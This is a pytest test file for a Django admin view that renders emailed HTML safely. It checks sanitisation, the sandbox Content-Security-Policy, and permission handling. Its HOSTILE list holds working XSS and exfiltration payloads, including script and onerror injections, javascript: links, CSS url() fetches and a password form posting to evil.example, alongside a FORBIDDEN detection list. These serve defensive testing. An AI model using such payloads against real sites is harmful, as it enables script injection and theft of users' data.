"""A message as it was sent: nothing of it runs, submits, or is fetched."""

from uuid import uuid4

import pytest
from django.test import Client
from django.urls import reverse

from interactions.admin.html_view import POLICY, sanitised
from interactions.models import Interaction, Message
from tests.interactions.admin.build import interaction, message, staff

pytestmark = pytest.mark.django_db

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/p.gif'>",
    "<img srcset='https://evil.example/p.gif 2x'>",
    "<svg onload=alert(1)><script>alert(1)</script><image href='https://evil.example/'/></svg>",
    "<math><mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></mtext></math>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/a.css'>",
    "<style>@import 'https://evil.example/a.css'; body{background:url(https://evil.example/b)}</style>",
    "<p style=\"background:url('https://evil.example/c')\">a</p>",
    '<p style="background-image:\\75rl(https://evil.example/d)">a</p>',
    "<p style='position:fixed;inset:0;z-index:9'>a</p>",
    "<table background='https://evil.example/e'><td background='https://evil.example/f'>a</td></table>",
    "<a href='javascript:alert(1)'>a</a>",
    "<a href='JaVaScRiPt&colon;alert(1)'>a</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>a</a>",
    "<img src='data:image/svg+xml;base64,PHN2Zy8+'>",
    "<form action='https://evil.example/'><input name=password><button formaction='https://evil.example/'>x</button></form>",
    "<iframe src='https://evil.example/'></iframe><object data='https://evil.example/'></object>",
    "<base href='https://evil.example/'><embed src='https://evil.example/'>",
    "<video src='https://evil.example/' poster='https://evil.example/'></video><audio src='https://evil.example/'></audio>",
    "<template><img src=x onerror=alert(1)></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<a href='https://evil.example/' ping='https://evil.example/' target=_top>a</a>".replace("evil", "fine"),
    "<p onclick=alert(1) id=x name=x class=x>a</p>",
]
FORBIDDEN = (
    *("<script", "onerror", "onload", "onclick", "evil.example", "javascript", "<svg", "<math", "<meta", "<link"),
    *("<form", "<input", "<button", "<iframe", "<object", "<embed", "<base", "<video", "<template", "<style", "url("),
    *("position", "data:text", "svg+xml", "ping=", "target=", "id=", "class="),
)


@pytest.mark.parametrize("html", HOSTILE)
def test_what_could_run_or_fetch_is_taken_out(html: str) -> None:
    left = sanitised(f"<div>{html}</div><p>Still here</p>").lower()
    assert [word for word in FORBIDDEN if word in left] == []


def test_what_comes_after_hostile_parts_is_still_there() -> None:
    assert "Still here" in sanitised("<img src=x onerror=alert(1)><p>Still here</p>")


def test_layout_links_and_pictures_within_the_mail_stay() -> None:
    html = (
        '<table width="600" bgcolor="#ffffff"><tr><td align="center" style="color:red;padding:4px">Hi</td></tr></table>'
        '<a href="https://shop.example.net/">Shop</a><img alt="Logo" src="data:image/png;base64,iVBORw0KGgo=">'
    )
    left = sanitised(html)
    assert 'style="color:red;padding:4px"' in left
    assert 'rel="noopener noreferrer nofollow"' in left
    assert 'src="data:image/png;base64,iVBORw0KGgo="' in left


@pytest.fixture
def sent() -> Message:
    return message(interaction(source="email"), "Hi", content_html="".join(HOSTILE) + "<p>Kind {regards}</p>")


def place(one: Message, interaction: Interaction | None = None) -> str:
    return reverse("admin:interactions_interaction_html", args=[(interaction or one.interaction).pk, one.pk])


def test_the_view_carries_a_policy_that_can_do_nothing(client: Client, sent: Message) -> None:
    client.force_login(staff("interactions.view_interaction"))
    response = client.get(place(sent))
    assert response.status_code == 200
    assert response.headers["Content-Security-Policy"] == POLICY
    assert POLICY.startswith("sandbox; default-src 'none'; style-src 'unsafe-inline'; img-src data:")
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["X-Frame-Options"] == "SAMEORIGIN"
    assert "no-store" in response.headers["Cache-Control"]
    assert "Kind {regards}" in response.content.decode()


def test_it_is_shown_only_to_those_who_may_and_only_where_it_belongs(client: Client, sent: Message) -> None:
    assert client.get(place(sent)).status_code == 302
    client.force_login(staff("ingest.view_syncrun"))
    assert client.get(place(sent)).status_code == 403
    client.force_login(staff("interactions.view_interaction", username="lee"))
    assert client.get(place(sent, interaction())).status_code == 404
    plain = message(interaction(), "No HTML")
    assert client.get(place(plain)).status_code == 404
    assert client.get(reverse("admin:interactions_interaction_html", args=[uuid4(), uuid4()])).status_code == 404
    assert client.post(place(sent)).status_code == 405


def test_the_page_links_to_it_only_where_there_is_html(client: Client, sent: Message) -> None:
    message(sent.interaction, "No HTML")
    client.force_login(staff("interactions.view_interaction"))
    shown = client.get(reverse("admin:interactions_interaction_change", args=[sent.interaction_id])).content.decode()
    assert shown.count("Show as sent (HTML)") == 1
    assert f'href="{place(sent)}"' in shown
